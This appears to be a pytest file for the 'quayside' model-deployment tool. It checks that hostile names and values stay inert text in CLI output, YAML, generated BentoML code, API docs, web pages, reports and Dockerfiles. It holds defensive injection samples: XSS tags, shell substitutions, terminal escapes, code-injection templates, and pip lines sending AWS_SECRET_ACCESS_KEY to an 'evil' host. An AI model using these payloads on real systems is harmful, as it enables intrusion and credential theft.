"""Hostile text is shown as text at every output that interprets it: Rich, YAML, JSON, HTML, Markdown, Python.

Each table of hostile strings goes through every path that prints or generates from a
user's value: the CLI's listings and error lines (typer's CliRunner over a real local
store), ``deploy --dry-run -o yaml``, ``export bentoml`` (the generated module is
parsed, and run in a subprocess with a canary), a model server's ``/docs`` and
OpenAPI document, the web UI's pages and the load-test report.
"""

from __future__ import annotations

import ast
import dataclasses
import html
import io
import json
import os
import re
import subprocess
import sys
import tokenize
import uuid
from pathlib import Path

import markupsafe
import pytest
import yaml
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import quayside
from quayside import Metric
from quayside.cli.app import app as cli_app
from quayside.cli.app import main as cli_main
from quayside.cli.console import visible
from quayside.config import Settings
from quayside.errors import InvalidNameError, PackageError, UsageError
from quayside.loadtesting.report import render_html
from quayside.packager.docker.context import ModelImage, image_labels, render_dockerfile
from quayside.packager.exporters.bentoml import export_bentoml, render_bento
from quayside.packager.manifest import MANIFEST_NAME, read_manifest
from quayside.registry.store import RegistryStore
from quayside.server.app import create_app as create_server_app
from quayside.server.deps import app_state
from quayside.serving.app import create_app as create_serving_app
from quayside.serving.docs import markdown_literal
from quayside.serving.options import ServeOptions
from quayside.serving.server import load_for_serving
from tests.registry.reports import HTML as REPORT_HTML
from tests.registry.reports import report_document
from tests.server.ui.seed import loadtest_report

# Printable hostile text: valid as a free name (experiments, runs, packages), and as any value.
HOSTILE = [
    "[bold]lit[/bold]",
    "in6d[/]",
    "[link=http://evil]x[/link]",
    ":thumbs_up: :smile:",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '"""; open("/tmp/pwned","w")#',
    "'''",
    "\\",
    "{{ 7*7 }}{% raw %}",
    "${x} $(id) `id`",
    ": &a *a !!python/object:os.system",
    "- [x](javascript:alert(1)) **b** <b>",
]
# Text that a terminal or a parser acts on: refused as a name, so it travels in values only.
CONTROL = [
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mred",
    "line\n# comment",
    "\u202eevil",
    "cr\roverwrite",
]
EVERYTHING = HOSTILE + CONTROL
MARKUP = [h for h in HOSTILE if h.startswith(("[", ":"))] + ["in6d[/]"]


def ids(values: list[str]) -> list[str]:
    return [f"{i}-{v[:12]!r}" for i, v in enumerate(values)]


# --- a real local store holding hostile names and values ------------------------------------------


@pytest.fixture(scope="module")
def home(tmp_path_factory, iris_classifier, iris) -> dict:
    """A QUAYSIDE_HOME with an experiment and a run per hostile string, and a registered model each."""
    home = tmp_path_factory.mktemp("hostile-home")
    settings = Settings(home=home)
    server = create_server_app(settings)
    backend = app_state(server).tracking
    package = home / "package"
    quayside.save_model(iris_classifier, package, input_example=iris[0].head(5), to_onnx=True, name="iris")
    registry = RegistryStore.from_settings(settings)
    runs, experiments = {}, {}
    for i, text in enumerate(HOSTILE):
        experiment = backend.create_experiment(text)
        run = backend.create_run(experiment.id, text, {"note": text})
        backend.log_batch(run.id, [Metric("score", 0.5, 0)], {"p": text})
        backend.update_run(run.id, status="FINISHED")
        experiments[text], runs[text] = experiment, run
        registry.register_version(
            f"m{i}", package, actor=text, reason=text, model_description=text, tags={"note": text}
        )
        registry.transition(f"m{i}", 1, "staging", actor=text, reason=text)
        # What was load-tested and who uploaded it are the report's text: they reach the reports listing.
        tested = report_document(registry.get_version(f"m{i}", 1).digest, kind="server")
        tested["tested"]["url"] = text
        registry.add_loadtest_report(f"m{i}", 1, tested, REPORT_HTML, actor=text)
    controlled = backend.create_run(experiments[HOSTILE[0]].id, "controlled")
    backend.log_batch(controlled.id, params={f"c{i}": v for i, v in enumerate(CONTROL)})
    return {
        "path": home,
        "settings": settings,
        "server": TestClient(server, base_url="http://localhost"),
        "package": package,
        "runs": runs,
        "experiments": experiments,
        "controlled": controlled,
    }


@pytest.fixture
def cli(home, monkeypatch):
    """``quayside ARGS`` in this process over the hostile store: (exit code, stdout, stderr)."""
    for key in [k for k in os.environ if k.startswith("QUAYSIDE_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("QUAYSIDE_HOME", str(home["path"]))
    monkeypatch.setenv("COLUMNS", "4000")  # no table cell is wrapped, so each value shows whole

    def invoke(*args: str) -> tuple[int, str, str]:
        result = CliRunner().invoke(cli_app, list(args), catch_exceptions=False)
        return result.exit_code, result.stdout, result.stderr

    return invoke


# --- Rich: every listing shows names and values as typed --------------------------------------------


@pytest.mark.parametrize("text", HOSTILE, ids=ids(HOSTILE))
def test_tracking_listings_print_hostile_names_and_values_literally(cli, home, text):
    run = home["runs"][text]
    for args in (
        ("experiments", "list"),
        ("runs", "search", "-x", text),
        ("runs", "show", run.id),
        ("runs", "compare", run.id, home["runs"][HOSTILE[0]].id),
    ):
        code, out, _ = cli(*args)
        assert code == 0, args
        assert text in out, (args, out)
    assert "params.p" in cli("runs", "search", "-x", text)[1]


@pytest.mark.parametrize("text", HOSTILE, ids=ids(HOSTILE))
def test_registry_listings_print_hostile_descriptions_tags_actors_and_reasons_literally(cli, text):
    name = f"m{HOSTILE.index(text)}"
    for args in (
        ("registry", "list"),
        ("registry", "show", name),
        ("registry", "history", name),
    ):
        code, out, _ = cli(*args)
        assert code == 0, args
        assert text in out, (args, out)
    code, out, _ = cli("registry", "versions", name)
    assert code == 0 and "staging" in out
    code, out, _ = cli("registry", "reports", name, "1")
    assert code == 0 and f"server {text}" in out, out


def test_control_characters_in_values_are_shown_as_escapes_not_sent_to_the_terminal(cli, home):
    code, out, _ = cli("runs", "show", home["controlled"].id)
    assert code == 0
    for text in CONTROL:
        for line in text.splitlines():  # a value of several lines is a cell of several lines
            assert visible(line) in out
    assert "\x1b" not in out and "\u202e" not in out and "\r" not in out


def test_json_output_carries_every_value_exactly(cli, home):
    code, out, _ = cli("experiments", "list", "--json")
    assert code == 0
    assert set(HOSTILE) <= {e["name"] for e in json.loads(out)}
    code, out, _ = cli("runs", "show", home["controlled"].id, "--json")
    assert code == 0
    assert json.loads(out)["params"] == {f"c{i}": v for i, v in enumerate(CONTROL)}
    code, out, _ = cli("registry", "show", "m0", "--json")
    assert code == 0 and json.loads(out)["description"] == HOSTILE[0]


@pytest.mark.parametrize("text", MARKUP, ids=ids(MARKUP))
def test_an_error_line_quotes_the_name_as_typed(home, monkeypatch, capsys, text):
    for key in [k for k in os.environ if k.startswith("QUAYSIDE_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("QUAYSIDE_HOME", str(home["path"]))
    with pytest.raises(SystemExit) as exited:
        cli_main(["experiments", "create", text])  # it exists already
    assert exited.value.code == 1
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ")
    assert text in lines[0]


def test_docker_deployments_list_prints_labels_literally(cli, monkeypatch):
    from quayside.packager.docker import build, containers

    rows = [
        dataclasses.make_dataclass(
            "Row", ["name", "model", "version", "port", "status", "container", "image"]
        )(text, text, text, 8080, "running", "c0", text)
        for text in EVERYTHING
    ]
    monkeypatch.setattr(build, "docker_client", lambda: None)
    monkeypatch.setattr(containers, "deployments", lambda client: rows)
    code, out, _ = cli("deployments")
    assert code == 0
    for text in EVERYTHING:
        assert visible(text) in out
    assert "\x1b" not in out


# --- YAML: machine output is printed as serialized, and reads back exactly ---------------------------


# Beyond U+FFFF (JSON writes it as two surrogates, which YAML would read as two broken characters), and
# text that only looks like such an escape.
ASTRAL = ["reg/\U0001f680:v1", "\U0001d4b3\U0001f600", "\\ud83d\\ude00", "\\\U0001f600"]
IMAGES = [*EVERYTHING, "reg/model:[bold]v1[/bold]", *ASTRAL]


@pytest.mark.parametrize("image", IMAGES, ids=ids(IMAGES))
def test_deploy_dry_run_yaml_reads_back_to_exactly_the_image(cli, home, image):
    code, out, err = cli(
        "deploy", str(home["package"]), "--target", "kubernetes", "--dry-run", "-o", "yaml", "--image", image
    )
    assert code == 0, err
    deployment = next(m for m in yaml.safe_load_all(out) if m["kind"] == "Deployment")
    assert deployment["spec"]["template"]["spec"]["containers"][0]["image"] == image
    assert deployment["metadata"]["annotations"]["quayside.io/image"] == image


K8S_LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")


@pytest.mark.parametrize("text", EVERYTHING, ids=ids(EVERYTHING))
def test_deploy_dry_run_turns_a_hostile_package_name_into_valid_kubernetes_names(cli, home, tmp_path, text):
    package = _hostile_package(home["package"], tmp_path / "package", text)
    code, out, err = cli("deploy", str(package), "--target", "kubernetes", "--dry-run", "-o", "yaml")
    assert code == 0, err
    manifests = list(yaml.safe_load_all(out))
    assert {m["kind"] for m in manifests} == {"Deployment", "Service", "PodDisruptionBudget"}
    for manifest in manifests:
        assert re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?", manifest["metadata"]["name"])
        for value in manifest["metadata"]["labels"].values():
            assert len(value) <= 63 and K8S_LABEL_VALUE.fullmatch(value), value


# --- Python: bentoml export emits values as literals, never as code ---------------------------------


def _rendered(manifest, **changes):
    return render_bento(dataclasses.replace(manifest, **changes))


def _constants(source: str) -> dict:
    module = ast.parse(source)
    return {
        node.targets[0].id: ast.literal_eval(node.value)
        for node in module.body
        if isinstance(node, ast.Assign)
        and isinstance(node.targets[0], ast.Name)
        and node.targets[0].id.isupper()
        and isinstance(node.value, ast.Constant | ast.List)
    }


@pytest.mark.parametrize("text", EVERYTHING, ids=ids(EVERYTHING))
def test_bento_service_holds_hostile_names_as_literals_that_round_trip(home, text):
    manifest = read_manifest(home["package"])
    inputs = dataclasses.replace(
        manifest.signature.inputs,
        specs=tuple(
            dataclasses.replace(s, name=f"{text}{i}") for i, s in enumerate(manifest.signature.inputs.specs)
        ),
    )
    signature = dataclasses.replace(manifest.signature, inputs=inputs)
    flavor = text if manifest.onnx_servable else manifest.flavor  # an ONNX Bento never loads the flavor
    bento = _rendered(manifest, name=text, flavor=flavor, signature=signature)
    service = bento.files["service.py"]
    constants = _constants(service)
    assert constants["PACKAGE_NAME"] == text
    assert [spec[0] for spec in constants["INPUTS"]] == [s.name for s in inputs.specs]
    assert json.loads(constants["EXAMPLE_REQUEST"])["inputs"].keys() == manifest.input_example.keys()
    assert text not in (ast.get_docstring(ast.parse(service)) or "")
    comments = [
        t.string
        for t in tokenize.generate_tokens(io.StringIO(service).readline)
        if t.type == tokenize.COMMENT
    ]
    assert not any(text in c for c in comments)
    assert bento.class_name.isidentifier()
    bentofile = yaml.safe_load(bento.files["bentofile.yaml"])
    assert bentofile["labels"] == {"quayside.model": text, "quayside.flavor": flavor}
    assert bentofile["service"] == bento.service


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy\n--index-url http://evil",
        "-e git+http://evil/x",
        "--extra-index-url=http://evil",
        "x @ https://evil/${AWS_SECRET_ACCESS_KEY}",
        "numpy # comment",
    ],
)
def test_a_requirement_pip_would_read_as_an_option_or_more_lines_is_refused(home, requirement):
    manifest = read_manifest(home["package"])
    environment = dataclasses.replace(manifest.environment, onnx_requirements=(requirement,))
    with pytest.raises(PackageError, match="not one pip requirement"):
        _rendered(manifest, environment=environment)


def _hostile_package(source: Path, target: Path, name: str) -> Path:
    """A copy of ``source`` whose manifest names it ``name``, as someone could hand it over."""
    target.mkdir()
    for file in source.rglob("*"):
        if file.is_file():
            (target / file.relative_to(source)).parent.mkdir(parents=True, exist_ok=True)
            (target / file.relative_to(source)).write_bytes(file.read_bytes())
    manifest = yaml.safe_load((source / MANIFEST_NAME).read_text())
    manifest["name"] = name
    (target / MANIFEST_NAME).write_text(yaml.safe_dump(manifest))
    return target


BENTOML_STUB = {
    "bentoml/__init__.py": "def service(**options):\n    return lambda cls: cls\n\n\ndef api(f):\n    return f\n",
    "bentoml/exceptions.py": "class InvalidArgument(Exception):\n    pass\n",
}


@pytest.mark.parametrize(
    "template",
    [
        'x"""; open({canary!r}, "w"); """',
        'x"""; open({canary!r}, "w")#',
        "x'''; open({canary!r}, 'w'); '''",
        'x\\"; open({canary!r}, "w")#',
        "x\n__import__('builtins').open({canary!r}, 'w')",
    ],
)
def test_an_exported_bento_runs_no_code_from_the_package_name(home, iris, tmp_path, template):
    canary = tmp_path / f"pwned-{uuid.uuid4().hex}"
    name = template.format(canary=str(canary))
    package = _hostile_package(home["package"], tmp_path / "package", name)
    try:
        bento = export_bentoml(package, tmp_path / "bento")
    except UsageError:  # a name the package reader refuses (it spans lines) is safe too
        assert "\n" in name
        assert sorted(p.name for p in tmp_path.iterdir()) == ["package"]
        return
    for path, text in BENTOML_STUB.items():
        (tmp_path / "stub" / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "stub" / path).write_text(text)
    rows = {column: iris[0][column].head(3).tolist() for column in iris[0].columns}
    script = (
        f"import json, service; svc = service.{bento.class_name}(); "
        f"print(json.dumps([service.PACKAGE_NAME, svc.predict({rows!r})['label']]))"
    )
    ran = subprocess.run(
        [sys.executable, "-c", script],
        cwd=tmp_path / "bento",
        env={**os.environ, "PYTHONPATH": str(tmp_path / "stub")},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert not canary.exists(), "the package's name ran as code"
    assert ran.returncode == 0, ran.stderr
    package_name, labels = json.loads(ran.stdout)
    assert package_name == name and len(labels) == 3


@pytest.mark.parametrize("name", ["../../escaped", "/tmp/absolute", "--help", "a/b"])
def test_export_bentoml_default_directory_stays_in_the_current_directory(
    cli, home, tmp_path, monkeypatch, name
):
    package = _hostile_package(home["package"], tmp_path / "package", name)
    cwd = tmp_path / "a" / "b"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    code, _, err = cli("export", "bentoml", str(package))
    assert code == 0, err
    (written,) = [p for p in cwd.iterdir()]
    assert written.name.endswith("-bento") and (written / "service.py").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "package"]
    assert not Path(f"{name}-bento").is_absolute() or not Path(f"{name}-bento").exists()


# --- HTML and Markdown: the model server's /docs and OpenAPI document --------------------------------


@pytest.fixture(scope="module")
def loaded(home):
    return load_for_serving(home["package"], ServeOptions())


def _text_of(rendered_html: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered_html))


@pytest.mark.parametrize("text", EVERYTHING, ids=ids(EVERYTHING))
def test_serving_docs_and_openapi_show_a_hostile_model_name_as_text(loaded, text):
    app = create_serving_app(dataclasses.replace(loaded, name=text), ServeOptions())
    client = TestClient(app, base_url="http://localhost")
    page = client.get("/docs")
    assert page.status_code == 200
    title = re.search(r"<title>(.*?)</title>", page.text, re.S).group(1)
    assert title == html.escape(f"Quayside: {text} - Swagger UI")
    assert "<script>alert" not in page.text and "<img src=x" not in page.text
    document = client.get("/openapi.json").json()
    assert document["info"]["title"] == f"Quayside: {text}"
    rendered = MarkdownIt("commonmark").render(document["info"]["description"])
    assert not re.search(r"<(script|img|a|b)\b", rendered), rendered
    flat = "".join(c if c.isprintable() else " " for c in text)  # a line break would start a block
    shown = _text_of(rendered).splitlines()[0].removeprefix("Serves model ").rsplit(" on ", 1)[0]
    assert shown in (flat, f"**{flat}**")  # next to a space, ** is no emphasis: it shows as typed
    assert client.get("/redoc").status_code == 404


def test_markdown_literal_renders_every_hostile_string_as_typed():
    for text in EVERYTHING:
        rendered = MarkdownIt("commonmark").render(markdown_literal(text))
        flat = "".join(c if c.isprintable() else " " for c in text)
        assert _text_of(rendered).strip() == flat.strip(), text


def test_the_servers_own_docs_page_is_the_escaped_one(home, monkeypatch):
    page = home["server"].get("/docs")
    assert page.status_code == 200 and "<title>Quayside - Swagger UI</title>" in page.text
    monkeypatch.setattr(home["server"].app, "title", HOSTILE[4])  # </title><script>...
    page = home["server"].get("/docs")
    assert f"<title>{html.escape(HOSTILE[4])} - Swagger UI</title>" in page.text
    assert "<script>alert" not in page.text
    assert home["server"].get("/redoc").status_code == 404


# --- HTML: the web UI -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE, ids=ids(HOSTILE))
def test_ui_pages_show_hostile_names_escaped(home, text):
    client, run, name = home["server"], home["runs"][text], f"m{HOSTILE.index(text)}"
    escaped = str(markupsafe.escape(text))
    for path in (
        "/",
        f"/experiments/{home['experiments'][text].id}",
        f"/runs/{run.id}",
        f"/models/{name}",
        f"/models/{name}/versions/1",
    ):
        page = client.get(path, headers={"accept": "text/html"})
        assert page.status_code == 200, path
        assert escaped in page.text, path
        if escaped != text:
            assert text not in page.text, path
    assert "<script>alert(1)</script>" not in client.get("/").text


# --- HTML: the load-test report ------------------------------------------------------------------------


@pytest.mark.parametrize("text", EVERYTHING, ids=ids(EVERYTHING))
def test_loadtest_report_shows_hostile_values_as_text_and_runs_nothing(text):
    report = loadtest_report("r1") | {"model": text, "target": text, "errors": [{"type": text, "count": 3}]}
    page = render_html(report)
    embedded = re.search(r'<script type="application/json" id="report-data">(.*?)</script>', page, re.S)
    assert json.loads(embedded.group(1)) == json.loads(json.dumps(report))
    assert not re.search(r"[<>&]", embedded.group(1))  # nothing in the data can end or bend its block
    markup = page.replace(embedded.group(0), "")
    if html.escape(text) != text:
        assert text not in markup
    assert html.escape(text) in markup
    assert "default-src 'none'" in page


# --- Dockerfile: a value is one quoted word, or refused ----------------------------------------------


_DOCKER_WORD = r'"(?:[^"\\]|\\.)*"'


def _docker_unquote(word: str) -> str:
    """A double-quoted Dockerfile word as Docker reads it: ``\\`` before ``"``, ``$`` or ``\\`` takes it whole."""
    assert re.fullmatch(_DOCKER_WORD, word), word
    assert "$" not in re.sub(r"\\.", "", word), word  # an unescaped $ is a variable Docker would expand
    return re.sub(r"\\(.)", lambda m: m[1] if m[1] in '"$\\' else m[0], word[1:-1])


def _dockerfile_values(dockerfile: str) -> tuple[str, dict[str, str]]:
    """MODEL_NAME's value and the LABEL instruction's key/value pairs, read back from the text."""
    (env,) = [line for line in dockerfile.splitlines() if line.startswith("ENV MODEL_NAME=")]
    block = dockerfile[dockerfile.index("\nLABEL ") + len("\nLABEL ") :].rstrip("\n")
    block = block.replace(" \\\n      ", " ")  # the instruction's line continuations
    pairs = re.findall(rf"(\S+?)=({_DOCKER_WORD})(?: |$)", block)
    assert " ".join(f"{k}={v}" for k, v in pairs) == block  # nothing outside the quoted words
    return _docker_unquote(env.removeprefix("ENV MODEL_NAME=")), {k: _docker_unquote(v) for k, v in pairs}


@pytest.mark.parametrize("text", EVERYTHING, ids=ids(EVERYTHING))
def test_dockerfile_values_stay_in_their_line(home, text):
    manifest = read_manifest(home["package"])
    plain = ModelImage.of(manifest, version="1", source_uri="x")
    model = dataclasses.replace(plain, name=text, source_uri=text)

    def labels_of(image: ModelImage) -> dict[str, str]:
        return image_labels(image, base_image="python:3.11-slim", quayside_version="0", created="now")

    def render(image: ModelImage) -> str:
        return render_dockerfile(
            base_image="python:3.11-slim", model=image, labels=labels_of(image), quayside_version="0"
        )

    if "\n" in text or "\r" in text:
        with pytest.raises(UsageError, match="cannot span lines"):
            render(model)
        return
    dockerfile = render(model)
    assert len(dockerfile.splitlines()) == len(render(plain).splitlines())
    assert _dockerfile_values(dockerfile) == (text, labels_of(model))


@pytest.mark.parametrize("text", CONTROL, ids=ids(CONTROL))
def test_an_image_refuses_a_model_name_the_name_rule_refuses(home, text):
    manifest = dataclasses.replace(read_manifest(home["package"]), name=text)
    with pytest.raises(InvalidNameError, match="model name"):
        ModelImage.of(manifest, version="1", source_uri="x")


@pytest.mark.parametrize(
    "base_image",
    [*EVERYTHING, "python:3.11-slim \\", "python:3.11-slim AS x", "python:${TAG}", "", "a" * 256],
    ids=ids([*EVERYTHING, "trailing backslash", "as", "var", "empty", "long"]),
)
def test_a_base_image_that_is_not_an_image_reference_is_refused(home, base_image):
    model = ModelImage.of(read_manifest(home["package"]), version="1", source_uri="x")
    labels = image_labels(model, base_image="python:3.11-slim", quayside_version="0", created="now")
    with pytest.raises(InvalidNameError, match="base image"):
        render_dockerfile(base_image=base_image, model=model, labels=labels, quayside_version="0")


@pytest.mark.parametrize("base_image", ["python:3.11-slim \\", "python:3.11-slim\nRUN id", "[bold]py[/bold]"])
def test_build_refuses_a_hostile_base_image_in_one_line_before_it_writes_anything(
    home, tmp_path, monkeypatch, capsys, base_image
):
    for key in [k for k in os.environ if k.startswith("QUAYSIDE_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("QUAYSIDE_HOME", str(tmp_path / "home"))
    context = tmp_path / "context"
    with pytest.raises(SystemExit) as exited:
        cli_main(["build", str(home["package"]), "--context-only", str(context), "--base-image", base_image])
    assert exited.value.code == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert line.startswith("error: base image name ") and repr(base_image) in line
    assert not context.exists() and not (tmp_path / "home" / "wheelhouse").exists()


@pytest.mark.parametrize(
    "base_image",
    ["python:3.11-slim", "registry.example.com:5000/team/py_thon:3.11-bookworm@sha256:" + "0" * 64],
)
def test_an_image_reference_is_the_base_image_as_given(home, base_image):
    model = ModelImage.of(read_manifest(home["package"]), version="1", source_uri="x")
    labels = image_labels(model, base_image=base_image, quayside_version="0", created="now")
    dockerfile = render_dockerfile(base_image=base_image, model=model, labels=labels, quayside_version="0")
    assert [line for line in dockerfile.splitlines() if line.startswith("FROM ")] == [
        f"FROM {base_image} AS builder",
        f"FROM {base_image}",
    ]
